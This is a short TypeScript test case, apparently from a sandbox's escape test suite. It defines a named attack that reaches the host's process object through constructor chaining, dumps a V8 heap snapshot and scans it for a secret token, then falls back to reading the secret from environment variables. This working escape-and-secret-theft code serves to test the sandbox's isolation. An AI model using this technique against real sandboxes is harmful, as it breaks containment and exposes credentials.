import { attack } from '../attack.ts';

/** A snapshot of the process's own heap holds every text in it. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		if (!process) return;
		const stream = process.getBuiltinModule('v8').getHeapSnapshot();
		const secretLike = /GLOVEBOX_SECRET[^"]{0,3}[0-9a-f]{24}|^[0-9a-f]{24}$/;
		let tail = '';
		for await (const chunk of stream) {
			const text = tail + chunk;
			const hit = text.match(/"[0-9a-f]{24}"/);
			if (hit) return hit[0];
			tail = text.slice(-64);
		}
		return process.env.GLOVEBOX_SECRET;
	`,
});
